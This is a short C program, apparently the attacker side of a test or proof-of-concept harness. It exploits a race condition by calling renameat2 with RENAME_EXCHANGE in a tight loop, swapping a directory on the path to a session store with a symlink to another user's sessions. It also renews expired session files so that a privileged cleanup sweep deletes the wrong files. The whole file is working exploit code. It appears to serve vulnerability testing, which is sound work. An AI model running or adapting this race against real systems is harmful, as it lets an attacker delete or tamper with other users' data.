/*
 * Exchanges two names in a tight loop: a directory on the way to sessions, and a link that leads to
 * somebody else's.
 *
 *   exchange FIRST SECOND [STORE PREFIX COUNT]
 *
 * In STORE, which stays open whatever its name is by now, it renews the expired sessions
 * STORE/PREFIX0 to PREFIX(COUNT - 1), so that every sweep has something to remove while the names
 * change: a list that was read in the one directory may be worked off in the other.
 */
#define _GNU_SOURCE
#include "attacker.h"

enum { kRoundsBetweenRenewals = 32 };

static void renew(int store, const char* prefix, int count) {
  char name[256];
  for (int i = 0; i < count; ++i) {
    snprintf(name, sizeof name, "%s%d", prefix, i);
    if (write_old_session(store, name) != 0) fail(name);
  }
}

int main(int argc, char** argv) {
  if (argc != 3 && argc != 6) return 2;
  const char* const first = argv[1];
  const char* const second = argv[2];
  const int count = argc == 6 ? atoi(argv[5]) : 0;
  const int store = argc == 6 ? open(argv[3], O_RDONLY | O_DIRECTORY) : -1;
  if (argc == 6 && store < 0) fail(argv[3]);
  if (argc == 6) renew(store, argv[4], count);
  begin();
  unsigned long rounds = 0;
  for (; !is_told_to_end; ++rounds) {
    if (renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) != 0) fail("renameat2");
    if (argc == 6 && rounds % kRoundsBetweenRenewals == 0) renew(store, argv[4], count);
  }
  return end(rounds);
}
